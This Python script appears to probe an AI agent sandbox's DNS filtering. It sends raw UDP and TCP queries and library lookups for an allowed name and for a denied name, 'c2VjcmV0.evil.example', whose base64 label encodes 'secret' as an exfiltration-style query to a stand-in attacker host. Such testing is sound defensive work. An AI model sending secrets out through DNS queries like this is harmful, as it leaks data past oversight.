"""What an agent gets from DNS, by the C library and by messages of its own. Prints one line of JSON."""
import json
import os
import socket
import struct
import subprocess
import sys
import time

NEIGHBOUR = sys.argv[1]
ALLOWED = "site.example"
DENIED = "c2VjcmV0.evil.example"
TYPES = {"A": 1, "TXT": 16, "AAAA": 28}


def outcome(action):
    try:
        return action()
    except socket.gaierror as error:
        return error.strerror
    except TimeoutError:
        return "silence"
    except OSError as error:
        return os.strerror(error.errno)


def message(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, TYPES[kind], 1)


def meaning(reply, kind):
    if reply == b"neighbour" or reply.startswith(b"HTTP"):
        return "the neighbour answered"
    _, flags, _, answers, _, _ = struct.unpack("!6H", reply[:12])
    if answers == 0:
        return f"rcode {flags & 15}"
    family, size = (socket.AF_INET, 4) if kind == "A" else (socket.AF_INET6, 16)
    return socket.inet_ntop(family, reply[-size:])


def by_udp(name, kind):
    family = socket.AF_INET6 if ":" in NEIGHBOUR else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((NEIGHBOUR, 53))
        sock.send(message(name, kind))
        return meaning(sock.recv(1500), kind)


def by_tcp(name, kind):
    with socket.create_connection((NEIGHBOUR, 53), timeout=3) as sock:
        query = message(name, kind)
        sock.sendall(struct.pack("!H", len(query)) + query)
        reply = sock.recv(1500)
        return meaning(reply if reply.startswith(b"HTTP") else reply[2:], kind)


def addresses(name):
    found = socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)
    return sorted({address for *_, (address, *_) in found})


def getent(name):
    found = subprocess.run(["getent", "ahosts", name], capture_output=True, text=True, timeout=60)
    return sorted({line.split()[0] for line in found.stdout.splitlines()})


report = {
    "udp": {kind: outcome(lambda: by_udp(ALLOWED, kind)) for kind in TYPES},
    "tcp": {kind: outcome(lambda: by_tcp(ALLOWED, kind)) for kind in TYPES},
    "denied by udp": outcome(lambda: by_udp(DENIED, "A")),
    "denied by tcp": outcome(lambda: by_tcp(DENIED, "A")),
}
if "with-library" in sys.argv:
    report["library"] = outcome(lambda: addresses(ALLOWED))
    report["getent"] = outcome(lambda: getent(ALLOWED))
    report["library, denied"] = outcome(lambda: addresses(DENIED))
    report["getent, denied"] = outcome(lambda: getent(DENIED))
print(json.dumps(report), flush=True)
time.sleep(3600)
